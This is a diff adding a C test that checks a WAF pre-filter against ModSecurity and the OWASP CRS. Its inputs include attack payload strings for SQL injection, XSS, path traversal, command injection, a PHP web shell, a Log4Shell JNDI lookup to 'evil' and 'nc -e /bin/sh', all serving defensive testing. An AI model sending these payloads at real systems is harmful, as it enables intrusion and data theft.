@@ -1,0 +1,812 @@
+/*
+ * test_waf_pf.c - the WAF pre-filter (src/waf/prefilter.c) against
+ * libmodsecurity itself, on the real OWASP CRS.
+ *
+ * The property checked, request by request: when waf_pf_scan() says
+ * "cannot match" (false), ModSecurity with the same configuration logs no
+ * rule, reports no intervention and leaves the anomaly score at 0.  Any
+ * request breaking it is printed and fails the test.
+ *
+ * Requests: a built-in list of benign and attack requests, random ones
+ * mixing attack fragments, encodings, protocol oddities and benign fields
+ * in every part of a request (WAF_PF_RANDOM of them per paranoia level,
+ * default 800; WAF_PF_SEED picks another sequence), and, when
+ * WAF_PF_RAW names a file written by tests/waf/pf_dump_corpus.py, every
+ * request of the WAF corpus.  Paranoia levels 1 and 2 (WAF_PF_LEVELS="1 2").
+ *
+ * Also reported: how many benign requests the pre-filter lets skip
+ * ModSecurity, the build time, scan cost and database size.
+ *
+ * Without the CRS installed (/usr/share/modsecurity-crs) the test is
+ * skipped.
+ */
+#include "unit.h"
+
+#include "waf/prefilter.h"
+
+#include <ctype.h>
+#include <modsecurity/intervention.h>
+#include <modsecurity/modsecurity.h>
+#include <modsecurity/rules_set.h>
+#include <modsecurity/transaction.h>
+#include <stdbool.h>
+#include <stdint.h>
+#include <stdlib.h>
+#include <time.h>
+#include <unistd.h>
+
+#define CRS_LOAD "/usr/share/modsecurity-crs/owasp-crs.load"
+
+/* ---- requests ------------------------------------------------------------ */
+
+struct req {
+	char method[16];
+	char *target;
+	char protocol[16];
+	struct waf_pf_hdr hdrs[64];
+	size_t nhdrs;
+	char *body;
+	size_t body_len;
+	char *store[140];	/* owned strings */
+	size_t nstore;
+	const char *label;
+	int kind;		/* 0 benign, 1 attack, 2 random */
+};
+
+static char *keep(struct req *r, const char *s, size_t n)
+{
+	char *d = malloc(n + 1);
+	memcpy(d, s, n);
+	d[n] = '\0';
+	if (r->nstore < sizeof(r->store) / sizeof(r->store[0]))
+		r->store[r->nstore++] = d;
+	return d;
+}
+
+static void req_free(struct req *r)
+{
+	for (size_t i = 0; i < r->nstore; i++)
+		free(r->store[i]);
+	r->nstore = 0;
+}
+
+static void hdr(struct req *r, const char *n, const char *v)
+{
+	if (r->nhdrs == 64)
+		return;
+	r->hdrs[r->nhdrs++] = (struct waf_pf_hdr){ keep(r, n, strlen(n)), strlen(n),
+						   keep(r, v, strlen(v)), strlen(v) };
+}
+
+static void req_init(struct req *r, const char *method, const char *target, int kind)
+{
+	memset(r, 0, sizeof(*r));
+	snprintf(r->method, sizeof(r->method), "%s", method);
+	snprintf(r->protocol, sizeof(r->protocol), "HTTP/1.1");
+	r->target = keep(r, target, strlen(target));
+	r->kind = kind;
+}
+
+static void browser(struct req *r)
+{
+	hdr(r, "Host", "shop.example.com");
+	hdr(r, "User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0");
+	hdr(r, "Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8");
+	hdr(r, "Accept-Language", "en-US,en;q=0.5");
+	hdr(r, "Accept-Encoding", "gzip, deflate, br");
+	hdr(r, "Connection", "keep-alive");
+}
+
+static void body(struct req *r, const char *ctype, const char *b)
+{
+	char n[32];
+	r->body_len = strlen(b);
+	r->body = keep(r, b, r->body_len);
+	if (ctype)
+		hdr(r, "Content-Type", ctype);
+	snprintf(n, sizeof(n), "%zu", r->body_len);
+	hdr(r, "Content-Length", n);
+}
+
+static struct waf_pf_req as_pf(const struct req *r)
+{
+	return (struct waf_pf_req){
+		.method = r->method, .method_len = strlen(r->method),
+		.target = r->target, .target_len = strlen(r->target),
+		.protocol = r->protocol, .protocol_len = strlen(r->protocol),
+		.hdrs = r->hdrs, .nhdrs = r->nhdrs,
+		.body = r->body, .body_len = r->body_len,
+	};
+}
+
+/* ---- ModSecurity --------------------------------------------------------- */
+
+static char msc_ids[512];
+static int msc_logged;
+
+static void log_cb(void *data, const void *msg)
+{
+	const char *m = msg, *p;
+	msc_logged++;
+	if (m && (p = strstr(m, "[id \"")) && strlen(msc_ids) < sizeof(msc_ids) - 16) {
+		p += 5;
+		size_t n = strcspn(p, "\"");
+		if (n > 10)
+			n = 10;
+		strncat(msc_ids, p, n);
+		strcat(msc_ids, " ");
+	}
+}
+
+/* true when ModSecurity logged a rule or intervened */
+static bool msc_run(ModSecurity *ms, RulesSet *rules, const struct req *r)
+{
+	Transaction *t = msc_new_transaction(ms, rules, NULL);
+	ModSecurityIntervention it = { .status = 200 };
+	bool hit = false;
+
+	msc_ids[0] = '\0';
+	msc_logged = 0;
+	msc_process_connection(t, "192.0.2.10", 40000, "192.0.2.1", 80);
+	const char *ver = strncmp(r->protocol, "HTTP/", 5) ? r->protocol : r->protocol + 5;
+	msc_process_uri(t, r->target, r->method, ver);
+	for (size_t i = 0; i < r->nhdrs; i++)
+		msc_add_n_request_header(t, (const unsigned char *)r->hdrs[i].name, r->hdrs[i].name_len,
+					 (const unsigned char *)r->hdrs[i].value, r->hdrs[i].value_len);
+	msc_process_request_headers(t);
+	if (msc_intervention(t, &it))
+		hit = true;
+	free(it.url);
+	free(it.log);
+	it = (ModSecurityIntervention){ .status = 200 };
+	if (r->body_len)
+		msc_append_request_body(t, (const unsigned char *)r->body, r->body_len);
+	msc_process_request_body(t);
+	if (msc_intervention(t, &it))
+		hit = true;
+	free(it.url);
+	free(it.log);
+	msc_process_logging(t);
+	msc_transaction_cleanup(t);
+	return hit || msc_logged > 0;
+}
+
+/* ---- generated requests -------------------------------------------------- */
+
+static const char *const frags[] = {
+	"' OR 1=1--", "1 union select password from users", "admin'--", "1;DROP TABLE x",
+	"<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "javascript:alert(1)",
+	"../../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/shadow", ";cat /etc/passwd",
+	"| id", "$(whoami)", "`uname -a`", "<?php system($_GET['c']); ?>", "php://filter/resource=x",
+	"${jndi:ldap://x/a}", "java.lang.Runtime", "require('child_process').exec('id')",
+	"http://169.254.169.254/latest/", "file:///etc/passwd", "%00", "%0d%0aSet-Cookie:x=1",
+	"sleep(5)", "benchmark(1000000,md5(1))", "' and '1'='1", "\" onmouseover=\"alert(1)",
+	"{{7*7}}", "<svg/onload=alert(1)>", "eval(String.fromCharCode(97))", "..%2f..%2fetc%2fpasswd",
+	"%27%20or%201%3d1", "&#x3c;script&#x3e;", "\\x3cscript\\x3e", "/*!50000select*/",
+	"select", "union", "or", "--", "#", "/*", "*/", "'", "\"", "<", ">", "(", ")", ";", "|",
+	"&&", "$", "`", "\\", "%", "%u0027", "%c0%af", "\xc3\xa9t\xc3\xa9", "\xff\xfe",
+	"hello", "world", "john.doe@example.com", "2024-01-01", "42", "true", "q=shoes",
+	"The quick brown fox", "O'Brien", "a+b", "50% off", "C:\\Users", "x=1&y=2", "name=bob",
+	"application/json", "Mozilla/5.0", "/index.html", "index.php", "cmd.exe", "wget http://x",
+	"nc -e /bin/sh", "onload=", "document.cookie", "alert(", "<a href=", "base64,PHNjcmlwdD4=",
+	"WAITFOR DELAY '0:0:5'", "char(0x41)", "0x414243", "@@version", "information_schema",
+	"/bin/bash", "powershell", ".htaccess", "web.config", "/proc/self/environ", "~root",
+	"ZXZhbCgxKQ==", "bmV3IEZ1bmN0aW9uKCJ4Iik=", "X19wcm90b19f", "eyJfJCRORF9GVU5DJCRfIjoxfQ",
+	"PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "J09SIDE9MQ==", "aGVsbG8=", "dGhpcy5jb25zdHJ1Y3Rvcg",
+	"&lt;script&gt;", "&#60;svg onload=alert(1)&#62;", "\\u003cscript", "\\x3c", "\\74",
+	"\\3c script\\3e", "\\00003cscript", "\\ff1cscript", "\\\nalert", "\\0", "\\6a avascript:",
+	"\xe2\x80\xa8", "\xef\xbc\x9cscript\xef\xbc\x9e", "\xc0\xae\xc0\xae/", "\xf0\x9f\x98\x80",
+	"\xe0\x80\xae", "\xed\xa0\x80", "\xf5\x80\x80\x80", "\xc3", "a\xc3(", "\xe2\x82",
+	"<!--", "-->", "<![CDATA[", "\r\n", "\t", " ", "+", "=", "&", "?", "/", ".", "..",
+};
+#define NFRAGS (sizeof(frags) / sizeof(frags[0]))
+
+static uint64_t rng = 88172645463325252ull;
+
+static unsigned rnd(unsigned n)
+{
+	rng ^= rng << 13;
+	rng ^= rng >> 7;
+	rng ^= rng << 17;
+	return (unsigned)(rng % n);
+}
+
+static void pct_encode(char *out, size_t cap, const char *s, int mode)
+{
+	size_t o = 0;
+	for (; *s && o + 8 < cap; s++) {
+		unsigned char c = (unsigned char)*s;
+		if (mode == 1 && !isalnum(c))
+			o += (size_t)snprintf(out + o, cap - o, "%%%02X", c);
+		else if (mode == 2 && c == ' ')
+			out[o++] = '+';
+		else if (mode == 3 && !isalnum(c))
+			o += (size_t)snprintf(out + o, cap - o, "%%25%02X", c);
+		else if (mode == 4 && !isalnum(c) && c < 0x80)
+			o += (size_t)snprintf(out + o, cap - o, "%%u00%02X", c);
+		else if (c == '&' || c == '#' || c == ' ' || c == '%' || c < 0x20 || c >= 0x7f)
+			o += (size_t)snprintf(out + o, cap - o, "%%%02X", c);
+		else
+			out[o++] = (char)c;
+	}
+	out[o] = '\0';
+}
+
+/* A random mix of 1..3 fragments */
+static void payload(char *out, size_t cap)
+{
+	out[0] = '\0';
+	int n = 1 + (int)rnd(3);
+	for (int i = 0; i < n; i++) {
+		if (rnd(4) == 0)
+			strncat(out, "x", cap - strlen(out) - 1);
+		strncat(out, frags[rnd(NFRAGS)], cap - strlen(out) - 1);
+	}
+}
+
+static const char *pick(const char *const *a, size_t n)
+{
+	return a[rnd((unsigned)n)];
+}
+#define PICK(a) pick(a, sizeof(a) / sizeof(a[0]))
+
+/* A fragment or a benign word, encoded one way or another */
+static void piece(char *out, size_t cap, bool attack)
+{
+	static const char *const words[] = { "shoes", "red", "42", "alice", "en-US", "2024", "x",
+					     "", "a b", "main.css", "v1", "true" };
+	char p[512];
+	if (attack)
+		payload(p, sizeof(p));
+	else
+		snprintf(p, sizeof(p), "%s", PICK(words));
+	if (rnd(3) == 0)
+		snprintf(out, cap, "%s", p);
+	else
+		pct_encode(out, cap, p, (int)rnd(5));
+}
+
+static void gen_random(struct req *r)
+{
+	static const char *const methods[] = { "GET", "GET", "GET", "GET", "POST", "POST", "PUT",
+					       "HEAD", "DELETE", "OPTIONS", "PATCH", "TRACE", "CONNECT",
+					       "PROPFIND", "get", "FOO" };
+	static const char *const protos[] = { "HTTP/1.1", "HTTP/1.1", "HTTP/1.1", "HTTP/1.0",
+					      "HTTP/2.0", "HTTP/2", "HTTP/0.9", "HTTP/3.0" };
+	static const char *const paths[] = { "/", "/index.html", "/a/b/c", "/api/v1/items",
+					     "/p.php", "/x.bak", "/backup.sql", "/.env", "/a/./b",
+					     "/a//b", "/a/../b", "/dl\\x", "/%2e%2e/x", "/static/app.js",
+					     "/web.config", "/x.asp;.jpg", "/%3F/x", "/a%00b" };
+	static const char *const ctypes[] = { "application/x-www-form-urlencoded", "application/json",
+					      "text/plain", "application/xml", "application/json; charset=utf-8",
+					      "application/x-www-form-urlencoded; charset=UTF-8",
+					      "application/octet-stream", "text/html; charset=big5",
+					      "application/JSON", "foo/bar" };
+	static const char *const hnames[] = { "X-Custom", "Referer", "User-Agent", "Accept",
+					      "X-Forwarded-For", "Cookie", "Accept-Encoding", "Range",
+					      "Proxy", "Lock-Token", "Content-Range", "If", "Expect",
+					      "Via", "Origin", "Accept-Charset", "Cache-Control", "Pragma",
+					      "Content-Encoding", "Transfer-Encoding", "Connection",
+					      "X-Up-Devcap-Post-Charset", "Request-Range", "Authorization" };
+	char t[4096], a[2048], b[2048];
+	bool odd = rnd(2);		/* protocol oddities too */
+	int attacks = odd ? (int)rnd(4) : (int)rnd(3) - 1;	/* attack pieces */
+
+	/* the target */
+	size_t o = (size_t)snprintf(t, sizeof(t), "%s", odd ? PICK(paths) : paths[rnd(4)]);
+	if (rnd(4) == 0) {
+		piece(a, sizeof(a), attacks-- > 0);
+		o += (size_t)snprintf(t + o, sizeof(t) - o, "/%s", a);
+	}
+	if (rnd(4) == 0)
+		o = (size_t)snprintf(t, sizeof(t), "http://shop.example.com%.1500s", (snprintf(b, sizeof(b), "%.1500s", t), b));
+	int nargs = (int)rnd(4);
+	for (int i = 0; i < nargs && o + 600 < sizeof(t); i++) {
+		piece(a, sizeof(a), attacks > 0 && rnd(2) ? (attacks--, true) : false);
+		piece(b, sizeof(b), attacks > 0 && rnd(3) == 0 ? (attacks--, true) : false);
+		o += (size_t)snprintf(t + o, sizeof(t) - o, "%c%.300s%s%.300s", i ? '&' : '?',
+				      rnd(3) ? (i == 0 ? "q" : "page") : b, rnd(6) ? "=" : "", a);
+	}
+	if (rnd(15) == 0)
+		o += (size_t)snprintf(t + o, sizeof(t) - o, "#frag%s", rnd(2) ? "<x>" : "");
+	req_init(r, odd ? PICK(methods) : methods[rnd(5)], t, 2);
+	r->label = "random";
+	snprintf(r->protocol, sizeof(r->protocol), "%s", rnd(4) || !odd ? "HTTP/1.1" : PICK(protos));
+
+	/* headers */
+	if (rnd(12) || !odd)
+		hdr(r, "Host", rnd(10) ? "shop.example.com" : (rnd(2) ? "10.0.0.1" : "shop.example.com:8080"));
+	if (rnd(12) == 0 && odd)
+		hdr(r, "Host", "other.example.com");
+	if (rnd(8) || !odd)
+		hdr(r, "User-Agent", rnd(8) ? "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0"
+				      : (rnd(2) ? "" : "curl/8.5.0"));
+	if (rnd(8) || !odd)
+		hdr(r, "Accept", rnd(8) || !odd ? "text/html,application/xhtml+xml,*/*;q=0.8" : "");
+	if (rnd(3))
+		hdr(r, "Accept-Language", "en-US,en;q=0.5");
+	int nh = (int)rnd(3);
+	for (int i = 0; i < nh; i++) {
+		const char *n = odd ? PICK(hnames) : hnames[rnd(6)];
+		piece(a, sizeof(a), attacks > 0 && rnd(2) ? (attacks--, true) : false);
+		if (!strcmp(n, "Cookie")) {
+			piece(b, sizeof(b), attacks > 0 && rnd(2) ? (attacks--, true) : false);
+			char c[4200];
+			snprintf(c, sizeof(c), "%.1000s=%.1000s; %s; __utma=%.1000s", rnd(2) ? "sid" : b, a,
+				 rnd(2) ? "theme=dark" : "=x", rnd(2) ? "1.2.3" : a);
+			hdr(r, n, c);
+		} else if (!strcmp(n, "Range") || !strcmp(n, "Request-Range")) {
+			hdr(r, n, rnd(2) ? "bytes=0-100" : (rnd(2) ? "bytes=10-5" : "bytes=0-1,2-3,4-5,6-7,8-9,10-11"));
+		} else {
+			hdr(r, n, a);
+		}
+	}
+	if (rnd(20) == 0 && odd) {
+		piece(a, sizeof(a), attacks > 0);
+		for (char *p = a; *p; p++)
+			if (*p == ':' || *p == '\r' || *p == '\n')
+				*p = '-';
+		hdr(r, a[0] ? a : "X-Empty", "1");
+	}
+
+	/* body */
+	int kind = (int)rnd(6);
+	if (kind >= 3 || (!strcmp(r->method, "POST") && rnd(2))) {
+		const char *ct = rnd(8) ? (odd ? PICK(ctypes) : ctypes[rnd(2)]) : NULL;
+		piece(a, sizeof(a), attacks > 0 ? (attacks--, true) : false);
+		piece(b, sizeof(b), false);
+		char bd[4600];
+		if (ct && strstr(ct, "json") && rnd(6)) {
+			/* JSON with the payload as a string (escaped) or a key */
+			char js[2200];
+			size_t q = 0;
+			for (const char *p = a; *p && q + 8 < sizeof(js); p++) {
+				if (*p == '"' || *p == '\\')
+					js[q++] = '\\', js[q++] = *p;
+				else if ((unsigned char)*p < 0x20)
+					q += (size_t)snprintf(js + q, sizeof(js) - q, "\\u%04x", *p);
+				else
+					js[q++] = *p;
+			}
+			js[q] = '\0';
+			switch (rnd(4)) {
+			case 0:
+				snprintf(bd, sizeof(bd), "{\"name\":\"%s\",\"n\":[1,{\"k\":true}],\"z\":null}", js);
+				break;
+			case 1:
+				snprintf(bd, sizeof(bd), "{\"%s\":1,\"a\":{\"b\":[\"%s\",2.5e3]}}", js, js);
+				break;
+			case 2:
+				snprintf(bd, sizeof(bd), "[\"%s\",[],{},{\"\":\"%s\"}]", js, js);
+				break;
+			default:
+				snprintf(bd, sizeof(bd), "{\"a\":\"%s\"", js);	/* broken */
+			}
+		} else if (ct && strstr(ct, "urlencoded")) {
+			snprintf(bd, sizeof(bd), "user=%.1000s&%.1000s=%.1000s&x", b, rnd(3) ? "comment" : a, a);
+		} else {
+			snprintf(bd, sizeof(bd), "%.2000s", a);
+		}
+		if (rnd(10) == 0 && ct)
+			hdr(r, "Content-Type", ct), r->body_len = strlen(bd), r->body = keep(r, bd, r->body_len);
+		else
+			body(r, ct, bd);
+	} else if (rnd(10) == 0 && odd) {
+		hdr(r, "Content-Length", rnd(2) ? "0" : "abc");
+	}
+	if (rnd(15) == 0 && odd)
+		hdr(r, "Transfer-Encoding", "chunked");
+}
+
+/* Built-in requests: 0 benign, 1 attack */
+static size_t builtin(struct req *r, size_t i)
+{
+	switch (i) {
+	case 0: req_init(r, "GET", "/", 0); browser(r); return 1;
+	case 1: req_init(r, "GET", "/products/shoes?color=red&size=42", 0); browser(r); return 1;
+	case 2: req_init(r, "GET", "/static/app.3f2a1.js", 0); browser(r);
+		hdr(r, "Referer", "https://shop.example.com/"); return 1;
+	case 3: req_init(r, "GET", "/search?q=running+shoes&sort=price_asc", 0); browser(r);
+		hdr(r, "Cookie", "session=8f14e45fceea167a5a36dedd4bea2543; theme=dark"); return 1;
+	case 4: req_init(r, "POST", "/api/v1/orders", 0); browser(r);
+		body(r, "application/json", "{\"item\":1234,\"qty\":2,\"note\":\"leave at door\",\"tags\":[\"gift\",\"fast\"]}");
+		return 1;
+	case 5: req_init(r, "POST", "/login", 0); browser(r);
+		body(r, "application/x-www-form-urlencoded", "username=alice&password=correct+horse&remember=1");
+		return 1;
+	case 6: req_init(r, "GET", "/images/logo.png", 0); browser(r); return 1;
+	case 7: req_init(r, "GET", "/api/v1/items?id=42", 0);
+		hdr(r, "Host", "api.example.com"); hdr(r, "User-Agent", "curl/8.5.0");
+		hdr(r, "Accept", "*/*"); return 1;
+	case 8: req_init(r, "GET", "/search?q=%27+OR+1%3D1--", 1); browser(r); return 1;
+	case 9: req_init(r, "GET", "/?x=<script>alert(1)</script>", 1); browser(r); return 1;
+	case 10: req_init(r, "GET", "/download?file=../../../../etc/passwd", 1); browser(r); return 1;
+	case 11: req_init(r, "POST", "/api/v1/orders", 1); browser(r);
+		body(r, "application/json", "{\"item\":\"1 union select password from users--\"}");
+		return 1;
+	case 12: req_init(r, "GET", "/", 1); browser(r);
+		hdr(r, "User-Agent", "sqlmap/1.7"); return 1;
+	case 13: req_init(r, "GET", "/", 1); hdr(r, "User-Agent", "x"); return 1;
+	case 14: req_init(r, "GET", "/index.php?cmd=;cat%20/etc/passwd", 1); browser(r); return 1;
+	case 15: req_init(r, "GET", "/", 1); browser(r);
+		hdr(r, "X-Api-Version", "${jndi:ldap://evil/a}"); return 1;
+	case 16: req_init(r, "GET", "/backup.sql", 1); browser(r); return 1;
+	case 17: req_init(r, "GET", "/", 1); browser(r); hdr(r, "Proxy", "x"); return 1;
+	case 18: req_init(r, "POST", "/login", 1); browser(r);
+		body(r, "application/x-www-form-urlencoded", "username=admin%27--&password=x"); return 1;
+	case 19: req_init(r, "GET", "/api", 0); browser(r);
+		hdr(r, "Authorization", "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc"); return 1;
+	default:
+		return 0;
+	}
+}
+
+/* ---- raw requests (WAF_PF_RAW) ------------------------------------------- */
+
+/* "#<kind> <label>\n<len>\n<bytes>\n" records; kind "attack" or "benign" */
+static bool parse_raw(struct req *r, const char *kind, const char *label, const char *b, size_t n)
+{
+	const char *e = memmem(b, n, "\r\n\r\n", 4);
+	if (!e)
+		return false;
+	const char *le = memmem(b, (size_t)(e - b) + 2, "\r\n", 2);
+	char line[8192];
+	size_t ll = (size_t)(le - b);
+	if (ll >= sizeof(line))
+		return false;
+	memcpy(line, b, ll);
+	line[ll] = '\0';
+	char *s1 = strchr(line, ' ');
+	char *s2 = s1 ? strrchr(line, ' ') : NULL;
+	if (!s1 || s2 == s1 || memchr(line, '\0', ll) != NULL)
+		return false;
+	*s1 = '\0';
+	*s2 = '\0';
+	req_init(r, line, s1 + 1, !strcmp(kind, "attack"));
+	snprintf(r->protocol, sizeof(r->protocol), "%s", s2 + 1);
+	r->label = label;
+	const char *p = le + 2;
+	size_t clen = SIZE_MAX;
+	while (p < e + 2) {
+		const char *nl = memmem(p, (size_t)(e + 2 - p), "\r\n", 2);
+		const char *c = memchr(p, ':', (size_t)(nl - p));
+		if (!c)
+			return false;
+		const char *v = c + 1;
+		while (v < nl && (*v == ' ' || *v == '\t'))
+			v++;
+		const char *ve = nl;
+		while (ve > v && (ve[-1] == ' ' || ve[-1] == '\t'))
+			ve--;
+		if (r->nhdrs == 64)
+			return false;
+		r->hdrs[r->nhdrs++] = (struct waf_pf_hdr){ keep(r, p, (size_t)(c - p)), (size_t)(c - p),
+							   keep(r, v, (size_t)(ve - v)), (size_t)(ve - v) };
+		if ((size_t)(c - p) == 14 && !strncasecmp(p, "content-length", 14))
+			clen = strtoul(v, NULL, 10);
+		p = nl + 2;
+	}
+	const char *bd = e + 4;
+	size_t bl = n - (size_t)(bd - b);
+	if (clen != SIZE_MAX && clen < bl)
+		bl = clen;
+	if (bl) {
+		r->body = keep(r, bd, bl);
+		r->body_len = bl;
+	}
+	return true;
+}
+
+/* ---- the check ----------------------------------------------------------- */
+
+struct stats {
+	size_t n, msc_hit, pf_skip, benign, benign_skip, attack, attack_msc, violations;
+	size_t rnd_clean, rnd_clean_skip, benign_clean, benign_clean_skip;
+	size_t attack_pf, benign_fp, benign_fp_pf;	/* detections with the pre-filter in front */
+};
+
+static void dump(const struct req *r)
+{
+	fprintf(stderr, "    %s %s %s\n", r->method, r->target, r->protocol);
+	for (size_t i = 0; i < r->nhdrs; i++)
+		fprintf(stderr, "    %.*s: %.*s\n", (int)r->hdrs[i].name_len, r->hdrs[i].name,
+			(int)r->hdrs[i].value_len, r->hdrs[i].value);
+	if (r->body_len)
+		fprintf(stderr, "    body: %.*s\n", (int)(r->body_len > 400 ? 400 : r->body_len), r->body);
+}
+
+static void check(struct waf_pf *pf, struct waf_pf_scratch *sc, ModSecurity *ms, RulesSet *rules,
+		  const struct req *r, struct stats *st, int pl)
+{
+	struct waf_pf_req q = as_pf(r);
+	bool might = waf_pf_scan(pf, sc, &q);
+	bool hit = msc_run(ms, rules, r);
+
+	st->n++;
+	st->msc_hit += hit;
+	st->pf_skip += !might;
+	if (r->kind == 0) {
+		st->benign++;
+		st->benign_skip += !might;
+		if (!hit) {
+			st->benign_clean++;
+			st->benign_clean_skip += !might;
+		}
+		st->benign_fp += hit;
+		st->benign_fp_pf += hit && might;
+	} else if (r->kind == 1) {
+		st->attack++;
+		st->attack_msc += hit;
+		st->attack_pf += hit && might;
+	} else if (!hit) {
+		st->rnd_clean++;
+		st->rnd_clean_skip += !might;
+	}
+	if (getenv("WAF_PF_WHY") && might && !hit)
+		fprintf(stderr, "  PL%d might (rule %ld) %s %s\n", pl, waf_pf_last_rule(sc), r->method,
+			r->target);
+	if (!might && hit) {
+		st->violations++;
+		if (st->violations <= 20) {
+			fprintf(stderr, "  PL%d VIOLATION (%s): ModSecurity matched [%s], the pre-filter said no\n",
+				pl, r->label ? r->label : "?", msc_ids);
+			dump(r);
+		}
+	}
+}
+
+/* CPU time of this thread: the machine is shared, wall time is noise */
+static double now_ms(void)
+{
+	struct timespec ts;
+	clock_gettime(CLOCK_THREAD_CPUTIME_ID, &ts);
+	return ts.tv_sec * 1e3 + ts.tv_nsec / 1e6;
+}
+
+static char prologue_path[64];
+
+static void write_prologue(int pl)
+{
+	snprintf(prologue_path, sizeof(prologue_path), "/tmp/gh_waf_pf_prologue_%d.conf", (int)getpid());
+	FILE *f = fopen(prologue_path, "w");
+	fprintf(f,
+		"SecRuleEngine On\n"
+		"SecRequestBodyAccess On\n"
+		"SecRule REQUEST_HEADERS:Content-Type \"application/json\" \\\n"
+		"    \"id:200001,phase:1,t:none,t:lowercase,pass,nolog,ctl:requestBodyProcessor=JSON\"\n"
+		"SecAction \"id:900000,phase:1,nolog,pass,t:none,setvar:tx.paranoia_level=%d\"\n"
+		/* owasp-crs.load's IncludeOptional is not SecLang libmodsecurity
+		 * 3.0.9 reads: the two Includes it amounts to on Debian */
+		"Include /etc/modsecurity/crs/crs-setup.conf\n"
+		"Include /usr/share/modsecurity-crs/rules/*.conf\n"
+		"SecRule TX:ANOMALY_SCORE \"@gt 0\" \"id:1999001,phase:2,pass,log,msg:'anomaly score'\"\n",
+		pl);
+	fclose(f);
+}
+
+static void run_level(int pl)
+{
+	char err[256];
+	const char *files[] = { prologue_path };
+	struct stats st = { 0 };
+
+	write_prologue(pl);
+	double t0 = now_ms();
+	struct waf_pf *pf = waf_pf_build(files, 1, pl, err, sizeof(err));
+	double build = now_ms() - t0;
+	CHECK(pf != NULL);
+	if (!pf) {
+		fprintf(stderr, "  build: %s\n", err);
+		return;
+	}
+	struct waf_pf_scratch *sc = waf_pf_scratch_new(pf);
+	CHECK(sc != NULL);
+
+	ModSecurity *ms = msc_init();
+	msc_set_log_cb(ms, log_cb);
+	RulesSet *rules = msc_create_rules_set();
+	const char *merr = NULL;
+	for (size_t i = 0; i < 1; i++)
+		if (msc_rules_add_file(rules, files[i], &merr) < 0) {
+			fprintf(stderr, "  ModSecurity: %s\n", merr ? merr : "?");
+			CHECK(0);
+			return;
+		}
+
+	struct req r;
+	for (size_t i = 0; builtin(&r, i); i++) {
+		r.label = "builtin";
+		check(pf, sc, ms, rules, &r, &st, pl);
+		if (r.kind == 0 && i == 1) {
+			/* scan cost on a typical benign request */
+			struct waf_pf_req q = as_pf(&r);
+			double a = now_ms();
+			const char *bn = getenv("WAF_PF_BENCH");
+			int n = bn ? atoi(bn) : 5000;
+			for (int k = 0; k < n; k++)
+				(void)waf_pf_scan(pf, sc, &q);
+			double per = (now_ms() - a) * 1e6 / n;
+			a = now_ms();
+			for (int k = 0; k < 200; k++)
+				(void)msc_run(ms, rules, &r);
+			double mper = (now_ms() - a) * 1e6 / 200;
+			printf("  PL%d scan: %.0f ns/request (ModSecurity: %.0f ns)\n", pl, per, mper);
+		}
+		req_free(&r);
+	}
+	const char *seed = getenv("WAF_PF_SEED");
+	if (seed)
+		rng = strtoull(seed, NULL, 10) | 1;
+	const char *rn = getenv("WAF_PF_RANDOM");
+	long nrand = rn ? atol(rn) : 800;
+	for (long i = 0; i < nrand; i++) {
+		gen_random(&r);
+		check(pf, sc, ms, rules, &r, &st, pl);
+		req_free(&r);
+	}
+	const char *raw = getenv("WAF_PF_RAW");
+	FILE *f = raw ? fopen(raw, "rb") : NULL;
+	if (f) {
+		char head[512];
+		size_t skipped = 0;
+		while (fgets(head, sizeof(head), f)) {
+			char kind[32], label[256];
+			size_t len;
+			if (sscanf(head, "#%31s %255s %zu", kind, label, &len) != 3)
+				break;
+			char *b = malloc(len + 1);
+			if (fread(b, 1, len, f) != len) {
+				free(b);
+				break;
+			}
+			fgetc(f);
+			if (parse_raw(&r, kind, label, b, len)) {
+				r.label = label;
+				check(pf, sc, ms, rules, &r, &st, pl);
+				req_free(&r);
+			} else {
+				req_free(&r);
+				skipped++;
+			}
+			free(b);
+		}
+		fclose(f);
+		printf("  PL%d corpus: %zu unparsable raw requests skipped\n", pl, skipped);
+	}
+	printf("  PL%d: build %.0f ms, %zu patterns, %zu fallbacks, database %zu KiB\n", pl, build,
+	       waf_pf_patterns(pf), waf_pf_fallbacks(pf), waf_pf_db_bytes(pf) / 1024);
+	printf("  PL%d: %zu requests checked, %zu matched by ModSecurity, %zu skipped by the pre-filter, "
+	       "%zu violations\n", pl, st.n, st.msc_hit, st.pf_skip, st.violations);
+	printf("  PL%d: benign requests ModSecurity passes: %zu/%zu skipped (%.1f%%)\n", pl,
+	       st.benign_clean_skip, st.benign_clean,
+	       st.benign_clean ? 100.0 * st.benign_clean_skip / st.benign_clean : 0.0);
+	printf("  PL%d: benign %zu/%zu skipped (%.1f%%); random requests ModSecurity passes: %zu/%zu "
+	       "skipped; attacks ModSecurity caught %zu/%zu\n", pl, st.benign_skip, st.benign,
+	       st.benign ? 100.0 * st.benign_skip / st.benign : 0.0, st.rnd_clean_skip, st.rnd_clean,
+	       st.attack_msc, st.attack);
+	printf("  PL%d: detection without / with the pre-filter: attacks %zu/%zu vs %zu/%zu, "
+	       "benign flagged %zu/%zu vs %zu/%zu\n", pl, st.attack_msc, st.attack, st.attack_pf,
+	       st.attack, st.benign_fp, st.benign, st.benign_fp_pf, st.benign);
+	CHECK_EQ_INT(st.violations, 0);
+	CHECK_EQ_INT(st.attack_pf, st.attack_msc);
+	CHECK_EQ_INT(st.benign_fp_pf, st.benign_fp);
+	waf_pf_scratch_free(sc);
+	waf_pf_free(pf);
+	msc_rules_cleanup(rules);
+	msc_cleanup(ms);
+	unlink(prologue_path);
+}
+
+TEST(test_against_modsecurity)
+{
+	const char *lv = getenv("WAF_PF_LEVELS");
+	if (!lv)
+		lv = "1 2";
+	for (const char *p = lv; *p; p++)
+		if (*p >= '1' && *p <= '4')
+			run_level(*p - '0');
+}
+
+TEST(test_build_errors)
+{
+	char err[256];
+	const char *files[] = { "/nonexistent/waf.conf" };
+	struct waf_pf *pf = waf_pf_build(files, 1, 1, err, sizeof(err));
+	CHECK(pf == NULL);
+	CHECK(strstr(err, "/nonexistent/waf.conf") != NULL);
+}
+
+static struct waf_pf *small(const char *conf, int pl)
+{
+	char path[64], err[256];
